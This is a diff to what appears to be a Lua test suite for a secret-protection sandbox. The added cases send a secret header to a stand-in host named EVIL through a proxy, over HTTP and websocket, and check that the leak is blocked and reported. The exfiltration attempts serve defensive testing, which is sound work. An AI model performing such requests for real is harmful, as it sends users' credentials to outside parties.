@@ -253,6 +253,9 @@ way("a connection that was kept alive to somebody else", [[local url = "http://s
   http.request { url = url, connect_to = EVIL:match "//(.*)" }
   tell(http.request, { url = url, headers = { a = s }, timeout = 2 })]], "some.test")
 way("a proxy, in clear text", [[tell(http.request, { url = HOME, proxy = EVIL, headers = { a = WAY } })]], ELSEWHERE .. "http://127.0.0.1")
+way("somebody behind a proxy that may have it", [[tell(http.request, { url = EVIL, proxy = HOME, headers = { a = WAY } })
+  tell(require "websocket".connect, { url = EVIL:gsub("^http", "ws"), proxy = HOME, headers = { a = WAY } })]],
+  ELSEWHERE .. "http://127.0.0.1:%d+ %(header 'a'%).*" .. ELSEWHERE)
 way("a proxy of the environment, in clear text", [[local s = secret.env("WAY", { to = { "http://api.test" } })
   process.run { argv = { "true" } } tell(http.request, { url = "http://api.test/", headers = { a = s } })]],
   "may be sent to http://api.test only, not to http://10.255.255.1:3128", { env = { http_proxy = "http://u:p@10.255.255.1:3128" } })
